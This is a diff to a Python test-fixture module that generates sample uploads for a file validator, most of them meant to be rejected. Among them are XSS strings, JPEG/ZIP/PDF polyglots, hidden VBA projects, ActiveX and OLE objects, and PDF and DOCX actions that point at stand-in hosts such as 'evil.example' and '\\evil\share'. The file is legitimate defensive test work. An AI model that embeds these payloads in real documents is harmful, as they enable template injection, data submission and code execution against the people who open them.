@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import io
 import json
+import random
 import struct
 import sys
 import zipfile
@@ -270,6 +271,90 @@ def _encrypt(writer) -> None:
     writer.encrypt("secret")
 
 
+def pdf_with_page(page: bytes, *more: bytes) -> bytes:
+    return pdf(*PAGE_OBJECTS[:2], page, *more)
+
+
+def pdf_stream(body: bytes, extra: bytes = b"") -> bytes:
+    return b"<< /Length %d%s >>\nstream\n" % (len(body), extra) + body + b"\nendstream"
+
+
+def pdf_file_attachment() -> bytes:
+    """An embedded file behind a file-attachment annotation, its stream without /Type."""
+    return pdf_with_page(
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] "
+        b"/FS << /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >> >>",
+        pdf_stream(b"hello"),
+    )
+
+
+def docx_padded_macro() -> bytes:
+    """[Content_Types].xml padded past 1 MB, then a VBA project declared for a part not named
+    vbaProject."""
+    main_part, main = MAIN_PARTS["docx"]
+    # Hex digits of random bytes: not packed tightly enough to look like a zip bomb.
+    padding = "<!-- " + random.Random(8).randbytes(MiB // 2 + 10).hex() + " -->"
+    extra = (
+        padding + '<Override PartName="/word/code.bin" '
+        'ContentType="application/vnd.ms-office.vbaProject"/>'
+    )
+    types = content_types(main_part, CONTENT_TYPES["docx"], extra)
+    return docx(**{"[Content_Types].xml": types, "word/code.bin": b"\xd0\xcf\x11\xe0" * 16})
+
+
+def docx_external_template() -> bytes:
+    return docx(
+        **{
+            "word/settings.xml": "<w:settings/>",
+            "word/_rels/settings.xml.rels": (
+                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+                'officeDocument/2006/relationships/attachedTemplate" '
+                'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+            ),
+        }
+    )
+
+
+def docx_hyperlink() -> bytes:
+    return docx(
+        **{
+            "word/_rels/document.xml.rels": (
+                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+                'officeDocument/2006/relationships/hyperlink" '
+                'Target="https://www.example.edu.cn/" TargetMode="External"/></Relationships>'
+            )
+        }
+    )
+
+
+def jpeg_segments_then(segment: bytes) -> bytes:
+    """The valid JPEG with ``segment`` inserted after its start marker."""
+    valid = jpeg()
+    return valid[:2] + segment + valid[2:]
+
+
+def jpeg_comment(text: bytes) -> bytes:
+    return jpeg_segments_then(b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text)
+
+
+def jpeg_of_size(width: int, height: int) -> bytes:
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("RGB", (width, height), "#8ab").save(out, "JPEG", quality=80)
+    return out.getvalue()
+
+
+def motion_photo() -> bytes:
+    """A phone's motion photo: the JPEG, then an MP4 file (an ftyp box first)."""
+    return jpeg() + struct.pack(">I", 24) + b"ftypmp42" + b"\x00" * 12 + b"\x00\x00\x00\x08free"
+
+
 SAMPLES: list[Sample] = [
     # --- Valid files: accepted ---
     Sample("ok.pdf", "教案.pdf", True, "a hand-written one-page PDF", lambda: MINIMAL_PDF),
@@ -284,7 +369,38 @@ SAMPLES: list[Sample] = [
     Sample("ok.docx", "反思.docx", True, "a minimal Word document", docx),
     Sample("ok.xlsx", "名单.xlsx", True, "an openpyxl workbook", xlsx),
     Sample("ok.pptx", "课件.pptx", True, "a minimal presentation", pptx),
-    Sample("ok.doc", "旧版.doc", True, "an OLE2 Word file without macros", ole2),
+    Sample(
+        "ok-12mp.jpg", "手机.jpg", True, "a 12 MP phone photo", lambda: jpeg_of_size(4032, 3024)
+    ),
+    Sample("ok-motion.jpg", "动态照片.jpg", True, "a motion photo (JPEG then MP4)", motion_photo),
+    Sample(
+        "ok-samsung.jpg",
+        "三星.jpg",
+        True,
+        "a Samsung photo with its trailer of tagged blocks",
+        lambda: (
+            jpeg()
+            + b"\x00\x00\x0a\x01Image_UTC_Data1700000000000"
+            + b"SEFH"
+            + b"\x6a\x00\x00\x00\x01\x00\x00\x00"
+            + b"\x00" * 12
+            + struct.pack("<I", 24)
+            + b"SEFT"
+        ),
+    ),
+    Sample("ok-link.docx", "链接.docx", True, "a Word document with a hyperlink", docx_hyperlink),
+    Sample(
+        "ok-xmp.jpg",
+        "元数据.jpg",
+        True,
+        "a JPEG with XMP metadata",
+        lambda: jpeg_segments_then(
+            b"\xff\xe1"
+            + struct.pack(">H", 2 + 29 + 60)
+            + b"http://ns.adobe.com/xap/1.0/\x00"
+            + b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:title>t</dc:title>'.ljust(60)
+        ),
+    ),
     Sample(
         "ok-traversal.pdf",
         "../../教案（路径）.pdf",
@@ -310,6 +426,23 @@ SAMPLES: list[Sample] = [
         lambda: png_with_text(HTML),
     ),
     Sample("jpeg-html.jpg", "poly.jpg", False, "HTML after the JPEG", lambda: jpeg() + HTML),
+    Sample(
+        "png-text-img.png",
+        "img.png",
+        False,
+        "an <img onerror> in a tEXt chunk",
+        lambda: png_with_text(b"<img src=x onerror=alert(1)>"),
+    ),
+    Sample(
+        "jpeg-comment-link.jpg",
+        "link.jpg",
+        False,
+        "a script link in a JPEG comment",
+        lambda: jpeg_comment(b'<a href="javascript:alert(1)">x</a>'),
+    ),
+    Sample("jpeg-zip.jpg", "zip.jpg", False, "a zip after the JPEG", lambda: jpeg() + docx()),
+    Sample("jpeg-pdf.jpg", "pdf.jpg", False, "a PDF after the JPEG", lambda: jpeg() + MINIMAL_PDF),
+    Sample("gif-zip.gif", "zip.gif", False, "a zip after the GIF", lambda: gif() + docx()),
     Sample("gif-html.gif", "poly.gif", False, "HTML after the GIF", lambda: gif() + HTML),
     Sample(
         "pdf-html-object.pdf",
@@ -317,6 +450,20 @@ SAMPLES: list[Sample] = [
         False,
         "HTML in an object outside streams",
         lambda: pdf(*PAGE_OBJECTS, b"(" + HTML.strip() + b")"),
+    ),
+    Sample(
+        "pdf-html-stream.pdf",
+        "stream.pdf",
+        False,
+        "HTML inside a stream object",
+        lambda: pdf(*PAGE_OBJECTS, pdf_stream(HTML)),
+    ),
+    Sample(
+        "pdf-html-comment-stream.pdf",
+        "comment.pdf",
+        False,
+        "HTML between %stream and %endstream comments",
+        lambda: pdf(*PAGE_OBJECTS, b"<< >>\n%stream\n" + HTML + b"%endstream"),
     ),
     Sample(
         "pdf-html-after-eof.pdf", "eof.pdf", False, "HTML after %%EOF", lambda: MINIMAL_PDF + HTML
@@ -438,6 +585,54 @@ SAMPLES: list[Sample] = [
         "an OLE2 file with a VBA project",
         lambda: ole2("_VBA_PROJECT".encode("utf-16-le")),
     ),
+    Sample("doc-legacy.doc", "旧版.doc", False, "an old Word file (no macros)", ole2),
+    Sample("xls-legacy.xls", "旧版.xls", False, "an old Excel file", ole2),
+    Sample("ppt-legacy.ppt", "旧版.ppt", False, "an old PowerPoint file", ole2),
+    Sample(
+        "docx-padded-vba.docx",
+        "padded.docx",
+        False,
+        "[Content_Types].xml past 1 MB declaring a VBA project",
+        docx_padded_macro,
+    ),
+    Sample(
+        "docx-vba-type.docx",
+        "vbatype.docx",
+        False,
+        "a VBA project declared for a part named otherwise",
+        lambda: docx(
+            **{
+                "[Content_Types].xml": content_types(
+                    "word/document.xml",
+                    CONTENT_TYPES["docx"],
+                    '<Override PartName="/word/code.bin" '
+                    'ContentType="application/vnd.ms-office.vbaProject"/>',
+                ),
+                "word/code.bin": b"\x00" * 64,
+            }
+        ),
+    ),
+    Sample(
+        "docx-external-template.docx",
+        "template.docx",
+        False,
+        "an attached template on a server",
+        docx_external_template,
+    ),
+    Sample(
+        "docx-activex.docx",
+        "activex.docx",
+        False,
+        "an ActiveX control",
+        lambda: docx(**{"word/activeX/activeX1.xml": "<ax:ocx/>"}),
+    ),
+    Sample(
+        "docx-ole.docx",
+        "ole.docx",
+        False,
+        "an embedded OLE object",
+        lambda: docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 16}),
+    ),
     # --- Image bombs and broken images ---
     Sample(
         "png-20000.png",
@@ -448,6 +643,13 @@ SAMPLES: list[Sample] = [
     ),
     Sample(
         "png-12000.png", "big.png", False, "12000 × 12000 pixels", lambda: png_of_size(12000, 12000)
+    ),
+    Sample(
+        "png-41mp.png",
+        "41mp.png",
+        False,
+        "8000 × 5200 pixels (41.6 MP)",
+        lambda: png_of_size(8000, 5200),
     ),
     Sample("png-truncated.png", "cut.png", False, "cut in half", lambda: png()[: len(png()) // 2]),
     Sample("png-bad-crc.png", "crc.png", False, "a corrupted chunk", lambda: corrupt(png())),
@@ -493,6 +695,54 @@ SAMPLES: list[Sample] = [
         "/Launch action",
         lambda: pdf_with_catalog(
             b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"
+        ),
+    ),
+    Sample(
+        "pdf-file-attachment.pdf",
+        "annot.pdf",
+        False,
+        "a file-attachment annotation with an embedded file",
+        pdf_file_attachment,
+    ),
+    Sample(
+        "pdf-gotor.pdf",
+        "gotor.pdf",
+        False,
+        "/OpenAction /GoToR to another file",
+        lambda: pdf_with_catalog(
+            b"<< /Type /Catalog /Pages 2 0 R "
+            b"/OpenAction << /S /GoToR /F (\\\\evil\\share\\a.pdf) /D [0 /Fit] >> >>"
+        ),
+    ),
+    Sample(
+        "pdf-xfa.pdf",
+        "xfa.pdf",
+        False,
+        "an XFA form",
+        lambda: pdf_with_catalog(
+            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>",
+            pdf_stream(b"<xdp:xdp/>"),
+        ),
+    ),
+    Sample(
+        "pdf-submitform.pdf",
+        "submit.pdf",
+        False,
+        "a link annotation submitting the form",
+        lambda: pdf_with_page(
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
+            b"/A << /S /SubmitForm /F (http://evil.example/) >> >>",
+        ),
+    ),
+    Sample(
+        "pdf-page-aa-import.pdf",
+        "import.pdf",
+        False,
+        "a page's additional action importing data",
+        lambda: pdf_with_page(
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
+            b"/AA << /O << /S /ImportData /F (x.fdf) >> >> >>"
         ),
     ),
     Sample(
